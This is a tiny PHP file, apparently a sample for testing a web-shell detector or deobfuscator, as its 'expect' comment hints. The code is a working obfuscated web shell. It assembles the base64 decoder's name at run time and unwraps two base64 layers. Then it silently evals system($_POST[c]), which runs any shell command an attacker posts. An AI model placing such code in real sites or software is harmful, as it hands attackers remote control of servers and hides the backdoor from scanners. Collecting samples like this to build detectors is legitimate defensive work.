<?php // expect: system($_POST_DATA)
// Two base64 layers; the decoder's name is put together at run time.
$k = 'base' . '64_' . 'decode';
$p = $k('ZXZhbChiYXNlNjRfZGVjb2RlKCdjM2x6ZEdWdEtDUmZVRTlUVkZ0alhTazcnKSk7');
@eval($p);
